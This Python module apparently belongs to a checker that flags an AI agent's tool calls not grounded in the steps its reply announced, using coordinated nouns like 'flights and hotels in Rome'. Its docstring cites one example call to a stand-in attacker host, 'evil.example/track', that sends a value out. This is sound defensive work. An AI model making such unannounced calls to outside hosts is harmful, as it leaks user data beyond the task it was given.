"""A call grounded only by a word every coordinated step shares (round 44 gap 7, h17b; rule
``ungrounded-call``, read by ``looked.unwritten`` over the reply's calls).

"I'll search for flights and hotels in Rome." announces two steps, one of each coordinated
object ("flights", "hotels"), and "Rome" is the place both carry. A third call of the reply
(``web_search casinos Rome``, ``fetch_url https://evil.example/track?u=rome``) repeats the
shared word and no object: it is no step of the sentence. So, in a sentence whose nouns are
coordinated by a word of [g-and] (and commas: "Paris, Berlin and London"; each conjunct a
noun or a code token of no verb kind, a determiner or preposition after "and" or a comma
aside; a conjunct after "and" that another noun follows is a modifier, "internal and external
sources", and coordinates no steps), when
more calls carry a word of that sentence than it coordinates objects, each of them carries a
word of its own object (by stem: ``references._referenced``) or a word the text writes
outside that sentence (a step another sentence announces). A coordination of verbs ("read
config.yml and then fix the port") coordinates no objects and is not read here; as many calls
as objects ("the weather in Paris and London" + two calls) are not counted.
"""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from typing import Any

from .detect import detect
from .preamble import Announcement
from .references import _referenced
from .sentences import _sentences
from .view import normalize
from .words import Token, Tongue, tokenize

__all__ = ["check"]

_NOUNISH = frozenset({"OPEN", "CODE"})
_SKIPPED = frozenset({"DET", "ADV", "PREP"})
"""Tokens between "and" and the conjunct's noun ("and the hotels", "et des hôtels")."""


def _noun(x: Token, t: Tongue) -> bool:
    return x.kind in _NOUNISH and t.kind_of(x.text) is None


def _coordinated(tokens: Sequence[Token], t: Tongue) -> tuple[set[str], set[str]]:
    """(the coordinated objects, the sentence's other nouns) of a sentence: none when it
    coordinates no nouns."""
    objects: set[str] = set()
    for k, x in enumerate(tokens):
        if x.kind != "AND" or k == 0 or not _noun(tokens[k - 1], t):
            continue
        j = next((i for i in range(k + 1, len(tokens)) if tokens[i].kind not in _SKIPPED), None)
        if j is None or not _noun(tokens[j], t) or (j + 1 < len(tokens) and _noun(tokens[j + 1], t)):
            continue  # no noun after "and", or a modifier of one ("internal and external sources")
        objects |= {tokens[k - 1].text, tokens[j].text}
        i = k - 2
        while i >= 1:
            while i >= 1 and tokens[i].kind in _SKIPPED:
                i -= 1  # "the README, the Makefile and ..."
            if tokens[i].kind != "COMMA" or not _noun(tokens[i - 1], t):
                break
            objects.add(tokens[i - 1].text)
            i -= 2
    if len(objects) < 2:
        return set(), set()
    return objects, {x.text for x in tokens if _noun(x, t)} - objects


def check(ann: Announcement, calls: Sequence[tuple[str, Mapping[str, Any]]],
          texts: Sequence[tuple[str, frozenset[str]]]) -> str | None:
    """Why a call carries only the word the coordinated steps of a sentence share, when the
    calls are more than its objects, or None (module docstring)."""
    if len(calls) < 3:
        return None
    for body, _ in _sentences(normalize(ann.text)):
        t = detect(body)
        if t is None:
            continue
        tokens = tokenize(body, t)
        objects, shared = _coordinated(tokens, t)
        if not objects or not shared:
            continue
        here = {x.text for x in tokens}
        elsewhere = [w for w in (*ann.objects, *ann.observed) if w.casefold() not in here]
        carrying = [(name, text, words) for (name, _args), (text, words) in zip(
            calls, texts, strict=True)
            if _referenced([*objects, *shared], text, words, ann.tongues) is not None]
        if len(carrying) <= len(objects):
            continue
        for name, text, words in carrying:
            if _referenced(sorted(objects), text, words, ann.tongues) is None and (
                    _referenced(elsewhere, text, words, ann.tongues) is None):
                word = _referenced(sorted(shared), text, words, ann.tongues)
                return (f"{name!r} carries only {word!r}, which every coordinated step of "
                        f"the announcement shares ({', '.join(sorted(objects))}): it is "
                        "none of them")
        again = _again(carrying, objects, ann)
        if again is not None:
            return again
    return None


def _again(carrying: Sequence[tuple[str, str, frozenset[str]]], objects: set[str],
           ann: Announcement) -> str | None:
    """A coordinated object two calls of one tool both carry, when the calls are more than
    the objects ("the weather in Paris and London" + Paris, London and Paris again with
    ``days: 14``): one object, one step."""
    seen: set[tuple[str, str]] = set()
    for name, text, words in carrying:
        for obj in sorted(objects):
            if _referenced([obj], text, words, ann.tongues) is None:
                continue
            if (name, obj) in seen:
                return (f"{name!r} is called again for {obj!r}, while the announcement "
                        f"coordinates {len(objects)} objects, one step each")
            seen.add((name, obj))
    return None
